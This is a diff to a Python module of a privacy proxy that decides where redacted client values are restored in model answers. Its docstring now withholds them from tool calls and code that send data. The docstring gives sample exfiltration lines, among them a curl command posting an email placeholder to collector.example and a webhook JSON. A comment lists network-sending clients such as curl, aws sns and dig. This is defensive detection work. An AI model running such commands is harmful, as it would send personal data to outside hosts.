@@ -1,27 +1,30 @@
-"""Where restore keeps every placeholder: code and tool calls that name a network destination (issue 12, atk17).
+"""Where restore keeps every placeholder: code and tool calls that send (scopes16: issue 12, atk17 H1-H3, H5, M6).
 
 Restore puts the client's values back into the model's answer. Where the client runs what the model wrote (a tool
 call's arguments, a command or a script it copies out of a code block), a value restored there goes wherever the
 model's text sends it: `curl -d '{` / `"email": "<EMAIL_ADDRESS_1>"` / `}' https://collector.example/p`, a heredoc,
 `{"webhook": "https://collector.example", "message": "<EMAIL_ADDRESS_1>"}`, an argv array, an `env` map, a `.netrc`.
 Enumerating the shapes of commands and request objects (`proxy.guard.urls`: URLs, command lines, request parts) left
-one more shape open each time. So the rule is inverted for these scopes (`restore_scopes`):
-- a tool call (its arguments or input, every value and key, any API: one scope per call);
-- code: a fenced code block (to its closing fence, or the text's end), an inline code span, an HTML `<pre>`,
-  `<code>`, `<samp>` or `<kbd>` element;
-restore writes no value anywhere in a scope that names a network destination (`names_destination`), except inside
-a URL the client sent itself (`proxy.guard.vault.Vault.note_urls`) or as a mailbox that, restored, is the client's
-own. A scope naming no destination (`{"to": "<EMAIL_ADDRESS_1>", "subject": ...}`, a code block that formats the
-client's record) is restored as before. Prose keeps the enumerated rules (a renderer fetches URLs and tags; nothing
-runs a sentence).
+one more shape open each time. So for these scopes the rule is inverted:
+- a tool call (its arguments or input, every value and key, any API: one scope per call; `proxy.guard.phases.
+  destination_scopes` for whole answers, `TOOL` contexts and `proxy.guard.linehold` holds for streams);
+- code (`code_spans`): a fenced code block (to its closing fence, or the text's end), an inline code span, an HTML
+  `<pre>`, `<code>`, `<samp>` or `<kbd>` element, and a run of shell command lines in prose (`command_group_end`:
+  each command through its quotes, heredocs and continuations, and the command lines right after it);
+restore writes no value anywhere in a scope that sends (`sends`: it names a network destination or runs a network
+client), except inside a URL the client sent itself (`proxy.guard.vault.Vault.note_urls`) or as a mailbox that,
+restored, is the client's own. A scope that sends nothing (`{"to": "<EMAIL_ADDRESS_1>", "subject": ...}`, a code
+block that formats the client's record) is restored as before; prose keeps the enumerated rules (a renderer fetches
+URLs and tags; nothing runs a sentence).
 
-A destination is what a client connects to, however the text is laid out: a URL with a scheme and a host (`https:`,
-`ssh:`, `s3:`, `mysql:`..., `//host`), `www.`, a UNC path `\\\\host.example\\share`, an IP address (not loopback nor
-`0.0.0.0`), a mailbox's host (`ops@collector.example`), and a host name: with a port or a path
-(`collector.example:443`, `collector.example/p`), after a key or flag that names a host (`-h`, `--host`, `Host:`,
-`HostName`, `machine`, `server=`...), or alone when its top-level name is a common one (`.com`, `.net`, `.org`,
-`.io`, `.example`, a country's two letters but those that are also file extensions or code words: `.py`, `.sh`,
-`.md`, `.id`, `.in`...). A stream's dropped text (`proxy.guard.urls.MARK`) counts as one: what it held is unknown.
+A destination (`names_destination`) is what a client connects to, however the text is laid out: a URL with a scheme
+and a host (`https:`, `ssh:`, `s3:`, `mysql:`..., `//host`), `www.`, a UNC path `\\\\host.example\\share`, an IP
+address (not loopback nor `0.0.0.0`), a mailbox's host (`ops@collector.example`; not a JSON `from`/`sender`
+member's), and a host name: with a port or a path (`collector.example:443`, `collector.example/p`), after a key or
+flag that names a host (`-h`, `--host`, `Host:`, `HostName`, `machine`, `server=`...), or alone when its top-level
+name is a common one (`.com`, `.net`, `.org`, `.io`, `.example`, a country's two letters but those that are also file
+extensions or code words: `.py`, `.sh`, `.md`, `.id`, `.in`...). A stream's dropped text (`MARK`) counts as one:
+what it held is unknown.
 """
 
 from __future__ import annotations
@@ -71,13 +74,7 @@ _START: re.Pattern[str] | None = None
 _LINE: re.Pattern[str] | None = None
 
 
-def _command_line() -> re.Pattern[str]:
-    """A line that starts a shell command (`_command_start`), searched for in a text (a line's start)."""
-    global _LINE
-    if _LINE is None:
-        _LINE = re.compile(r"(?m)^(?=[ \t]*[^\s`~<])(?:" + _command_start().pattern + ")")
-    return _LINE
-# Of those, the clients that send what they are given to a host, named or not (`curl -d ... "$URL"`, `aws sns
+# Clients that send what they are given to a host, named or not (`curl -d ... "$URL"`, `aws sns
 # publish`, `gh issue create -R owner/repo`, `dig "$(...)".host`): a scope that runs one at a command's position
 # (`runs_client`) is kept whole like one naming a destination.
 _SENDERS = (r"xh|curlie|httpx|grpcurl|websocat|wscat|redis-cli|psql|mysql|mariadb|mongo(?:sh)?|sqlcmd|mosquitto_pub"
@@ -125,6 +122,14 @@ def _command_start() -> re.Pattern[str]:
             rf"(?:(?:{_WORDS}|{_NET}|{_MORE})(?:\.exe)?(?=[ \t]|\Z)|[A-Za-z_]\w*=\S"
             rf"|[a-z][\w.-]{{0,31}}(?:\.exe)?[ \t]+--?[A-Za-z])")
     return _START
+
+
+def _command_line() -> re.Pattern[str]:
+    """A line that starts a shell command (`_command_start`), searched for in a text (a line's start)."""
+    global _LINE
+    if _LINE is None:
+        _LINE = re.compile(r"(?m)^(?=[ \t]*[^\s`~<])(?:" + _command_start().pattern + ")")
+    return _LINE
 
 
 def _tlds() -> frozenset[str]:
